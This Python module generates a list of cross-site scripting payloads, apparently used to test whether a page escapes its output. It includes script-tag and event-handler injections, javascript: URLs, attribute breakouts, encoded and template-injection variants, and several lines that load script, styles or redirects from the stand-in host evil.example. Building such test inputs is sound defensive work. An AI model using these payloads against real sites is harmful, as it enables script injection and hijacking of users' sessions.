"""Texts that become code on a page that forgets to escape one of them. Every one calls `alert` or asks evil.example."""

_CALLS = ["alert(1)", "alert`1`", "top['al'+'ert'](1)"]
_TAGS = [
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script\n>{}</script >", "<script/x>{}</script>", "<script>{}//",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>",
    "--><script>{}</script>", "]]><script>{}</script>", "</option></select><script>{}</script>",
    "<img src=x onerror={}>", "<img/src=x/onerror={}>", "<img src=x onerror=\"{}\">", "<img src='x' onerror='{}'>",
    "<IMG SRC=x ONERROR={}>", "<img src=x:{} onerror=eval(src)>", "\"><img src=x onerror={}>",
    "'><img src=x onerror={}>",
    "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext></mtext><img src=x onerror={}></math>", "<body onload={}>", "<details open ontoggle={}>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<video><source onerror={}></video>",
    "<audio src=x onerror={}>", "<iframe srcdoc=\"<script>{}</script>\">", "<iframe src=\"javascript:{}\">",
    "<object data=\"javascript:{}\">", "<embed src=\"javascript:{}\">", "<a href=\"javascript:{}\">press</a>",
    "<form action=\"javascript:{}\"><button>press</button></form>",
    "<button formaction=\"javascript:{}\">press</button>",
    "<marquee onstart={}>", "<template><script>{}</script></template>",
    "<xss style=\"animation-name:x\" onanimationstart={}>",
]
_ATTRIBUTES = [
    "\" onmouseover=\"{}", "' onmouseover='{}", "\" autofocus onfocus=\"{}", "' autofocus onfocus='{}",
    "` onfocus={} autofocus x=`",
    "\" style=\"background:url(javascript:{})", "x\" onerror=\"{}\" src=\"x", "\"/onload=\"{}",
    "\" accesskey=x onclick=\"{}",
    "&quot; onfocus=&quot;{}", "&#34; onfocus=&#34;{}", "\\\" onfocus=\\\"{}",
]
_SCRIPTS = ["'-{}-'", "\";{};//", "';{};//", "`${{{}}}`", "\\';{};//", "</script><script>{}</script>", "*/{}/*",
    "\u2028{}\u2028"]
_ADDRESSES = [
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "\u0001javascript:{}", "javascript&colon;{}",
    "javascript://x%0a{}",
    "data:text/html,<script>{}</script>", "vbscript:{}", "blob:{}", "//evil.example/{}", "https://evil.example/{}",
    "/\\evil.example/{}",
]
_OTHER = [
    "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>", "<img src=//evil.example/x.png>", "![x](javascript:alert(1))",
    "[x](javascript:alert(1))", "[x]: javascript:alert(1)", "<!--", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "<\u0000script>alert(1)</script>".replace("\u0000", ""),
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{%import os%}", "%1 <b>%2</b> |one:<script>alert(1)</script>",
    "<a/href=//evil.example>x",
    "<portal src=//evil.example>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "\u202e<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>", "<script type=module>import '//evil.example/x.js'</script>",
]

PAYLOADS = list(dict.fromkeys(
    [shape.format(_CALLS[number % len(_CALLS)]) for number,
    shape in enumerate(_TAGS + _ATTRIBUTES + _SCRIPTS + _ADDRESSES)]
    + [shape.format(_CALLS[0]) for shape in _TAGS[:12]] + _OTHER))


def packed(longest: int) -> list[str]:
    """All of them in texts of at most so many characters, several in each; those that are too long alone are cut."""
    texts, text = [], ""
    for payload in PAYLOADS:
        payload = payload[:longest]
        if text and len(text) + 1 + len(payload) > longest:
            texts.append(text)
            text = ""
        text = f"{text} {payload}" if text else payload
    return texts + [text]
